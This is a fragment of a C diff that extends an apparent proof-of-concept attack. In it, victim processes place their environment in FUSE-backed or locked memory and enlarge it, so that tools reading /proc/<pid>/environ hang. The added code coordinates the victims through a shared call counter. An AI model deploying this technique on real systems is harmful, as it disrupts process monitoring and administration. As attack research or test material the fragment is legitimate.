@@ -27,8 +27,10 @@
 #define VICTIMS 4
 #define FILE_NODE 2
 #define FILE_SIZE (64 * 4096)
+#define LARGE_ENVIRONMENT (64 * 1024)
 
 static _Atomic long *hanging; /* reads that got no answer */
+static _Atomic long *called; /* victims that have made a call */
 static pid_t server;
 
 /* In a mount namespace of this attack: what is mounted goes with it. */
@@ -219,6 +221,18 @@ static void lock_memory(char *page)
 		sleep_ms(1);
 }
 
+/* More than the kernel tells of an environment: for the rest somebody has to read /proc. */
+static void enlarge_environment(void)
+{
+	char *large = mmap(NULL, LARGE_ENVIRONMENT, PROT_READ | PROT_WRITE,
+			   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+
+	if (large == MAP_FAILED)
+		fail("mmap: %s", strerror(errno));
+	memset(large, 'x', LARGE_ENVIRONMENT);
+	environ_move(large, LARGE_ENVIRONMENT);
+}
+
 static _Noreturn void be_hanging(long number)
 {
 	char path[PATH_MAX], *page;
@@ -236,10 +250,17 @@ static _Noreturn void be_hanging(long number)
 		fail("mmap: %s", strerror(errno));
 	page += number * 4096;
 	/* Kernels from 4.18 on do not look for an environment in a file. */
-	if (number == 0)
+	if (number == 0) {
+		/* One look-up a user at a time: whose memory hangs comes first. */
+		while (*called < VICTIMS - 1 && !time_is_up())
+			sleep_ms(1);
 		environ_move(page, 4096);
-	else
+	} else {
+		enlarge_environment();
 		lock_memory(page);
+	}
+	refused_call();
+	++*called;
 	for (;;) {
 		refused_call();
 		sleep_ms(10);
@@ -275,6 +296,7 @@ int attack_environ_fuse(void)
 	int code;
 
 	hanging = shared_memory(sizeof(*hanging));
+	called = shared_memory(sizeof(*called));
 	server = start();
 	if (server == 0)
 		serve();
